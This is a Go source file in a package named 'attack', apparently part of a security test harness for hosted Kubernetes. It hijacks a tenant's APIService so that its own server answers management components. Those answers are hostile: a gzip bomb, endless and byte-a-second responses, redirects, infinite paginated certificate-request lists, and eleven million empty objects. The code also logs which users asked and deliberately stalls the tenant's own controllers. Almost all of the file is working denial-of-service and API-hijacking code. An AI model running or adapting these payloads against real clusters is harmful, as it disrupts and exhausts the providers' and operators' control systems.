package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// Answer is a way to answer a manager that asks the tenant's API.
type Answer struct {
	Name, Did string
	Handler   http.Handler
}

// Answers are all of them; to is what redirects lead to.
func Answers(to netip.AddrPort) []Answer {
	return []Answer{
		{"slow answer", "answers a byte a second", http.HandlerFunc(slow)},
		{"redirect of a manager", "answers the manager with a redirect", redirect(to)},
		// From here on a manager leaves the tenant alone for a while after each.
		{"gzip bomb", "answers the manager with 10 GiB that are compressed to 10 MiB", http.HandlerFunc(bomb)},
		{"endless answer", "answers the manager without end", endless()},
		{"endless failure", "answers the manager with a failure without end", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusInternalServerError)
			endless().ServeHTTP(w, r)
		})},
	}
}

// Lists are answers to a manager that lists requests for certificates. The manager keeps what it lists.
func Lists() []Answer {
	return []Answer{
		{"pages without end", "each page of a list has another one after it", http.HandlerFunc(pages)},
		{"objects of two bytes", "answers the manager with a list of eleven million empty objects", http.HandlerFunc(empty)},
	}
}

// block is a part of an answer: a name that goes on.
var block = bytes.Repeat([]byte("a"), 64<<10)

// endless answers without end.
func endless() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"metadata":{"name":"`))
		for r.Context().Err() == nil {
			if _, err := w.Write(block); err != nil {
				return
			}
		}
	})
}

// compressed is 1 GiB of the same letter.
var compressed = sync.OnceValue(func() []byte {
	buffer := &bytes.Buffer{}
	writer := gzip.NewWriter(buffer)
	for range (1 << 30) / len(block) {
		_, _ = writer.Write(block) // A buffer takes all.
	}
	_ = writer.Close()
	return buffer.Bytes()
})

func bomb(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("Content-Encoding", "gzip")
	// Members of gzip that follow each other are one stream.
	for range 10 {
		if _, err := w.Write(compressed()); err != nil {
			return
		}
	}
}

// listed writes a list of requests for certificates, which has another page.
func listed(w http.ResponseWriter, item string, items int) {
	w.Header().Set("Content-Type", "application/json")
	_, _ = fmt.Fprintf(w, `{"apiVersion":"certificates.k8s.io/v1","kind":"CertificateSigningRequestList","metadata":{"continue":"%d","resourceVersion":"1"},"items":[%s]}`,
		time.Now().UnixNano(), strings.TrimSuffix(strings.Repeat(item+",", items), ","))
}

func pages(w http.ResponseWriter, _ *http.Request) {
	listed(w, `{"metadata":{"name":"n","annotations":{"a":"`+strings.Repeat("a", 10_000)+`"}},"spec":{"signerName":"example.com/a"}}`, 500)
}

func empty(w http.ResponseWriter, _ *http.Request) { listed(w, "{}", 11_000_000) }

func slow(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	for r.Context().Err() == nil {
		if _, err := w.Write([]byte(" ")); err != nil {
			return
		}
		_ = http.NewResponseController(w).Flush()
		select {
		case <-r.Context().Done():
		case <-time.After(time.Second):
		}
	}
}

// Instead serves a group of the tenant's API, such as "apps", in the place of its API server, and tells by which users it was asked.
type Instead struct {
	a        *Attacker
	server   *Server
	service  *corev1.Service
	original *unstructured.Unstructured

	lock    sync.Mutex
	handler http.Handler
	// ended is closed when there is another answer.
	ended chan struct{}
	users map[string]int
}

// TakeGroup takes a version of a group away from the tenant's API server: an administrator may change every APIService.
func (a *Attacker) TakeGroup(ctx context.Context, version, group string) (*Instead, error) {
	i := &Instead{a: a, users: map[string]int{}, original: &unstructured.Unstructured{}}
	i.original.SetAPIVersion("apiregistration.k8s.io/v1")
	i.original.SetKind("APIService")
	if err := a.Client.Get(ctx, client.ObjectKey{Name: version + "." + group}, i.original); err != nil {
		return nil, err
	}
	var err error
	if i.server, err = a.Serve(a.certificate, i); err != nil {
		return nil, err
	}
	if i.service, err = a.leading(ctx, i.server.Address); err != nil {
		return nil, err
	}
	changed := i.original.DeepCopy()
	changed.SetLabels(nil)
	wanted := apiService(group, i.service)
	changed.Object["spec"] = wanted.Object["spec"]
	_ = unstructured.SetNestedField(changed.Object, version, "spec", "version")
	return i, a.Client.Update(ctx, changed)
}

// ServeHTTP answers managers as Answer says, discovery well, and the tenant's own controllers not at all.
func (i *Instead) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	user := r.Header.Get("X-Remote-User")
	i.lock.Lock()
	handler, ended := i.handler, i.ended
	program, _, _ := strings.Cut(r.UserAgent(), "/")
	i.users[user+" ("+program+")"]++
	i.lock.Unlock()
	switch {
	case strings.Count(r.URL.Path, "/") < 4: // Discovery: the group is to look as if it were there.
		w.Header().Set("Content-Type", "application/json")
		_, _ = fmt.Fprintf(w, `{"kind":"APIResourceList","apiVersion":"v1","groupVersion":%q,"resources":[]}`, strings.TrimPrefix(r.URL.Path, "/apis/"))
		return
	case handler == nil, user == "", strings.HasPrefix(user, "system:"):
		// The tenant's own controllers ask, too. A controller that gets an empty answer may delete pods of konnectivity. Then no request of a
		// manager comes here any more.
		http.Error(w, "try again later", http.StatusServiceUnavailable)
		return
	}
	ctx, cancel := context.WithCancel(r.Context())
	defer cancel()
	go func() {
		select {
		case <-ended:
			cancel()
		case <-ctx.Done():
		}
	}()
	handler.ServeHTTP(w, r.WithContext(ctx))
}

// Answer answers so from now on, and forgets who asked.
func (i *Instead) Answer(answer Answer) {
	i.lock.Lock()
	defer i.lock.Unlock()
	if i.ended != nil {
		close(i.ended)
	}
	i.handler, i.ended, i.users = answer.Handler, make(chan struct{}), map[string]int{}
}

// Asked is how often users asked whose name, or program, begins so.
func (i *Instead) Asked(beginning string) (count int) {
	for user, times := range i.Users() {
		if strings.HasPrefix(user, beginning) || strings.Contains(user, "("+beginning) {
			count += times
		}
	}
	return count
}

// Users are those who asked, with how often.
func (i *Instead) Users() map[string]int {
	i.lock.Lock()
	defer i.lock.Unlock()
	copied := map[string]int{}
	for user, count := range i.users {
		copied[user] = count
	}
	return copied
}

// Release gives the group back.
func (i *Instead) Release(ctx context.Context) error {
	defer i.server.Close()
	defer i.a.remove(ctx, i.service)
	now := i.original.DeepCopy()
	if err := i.a.Client.Get(ctx, client.ObjectKeyFromObject(now), now); err != nil {
		return err
	}
	now.SetLabels(i.original.GetLabels())
	now.Object["spec"] = i.original.Object["spec"]
	return i.a.Client.Update(ctx, now)
}
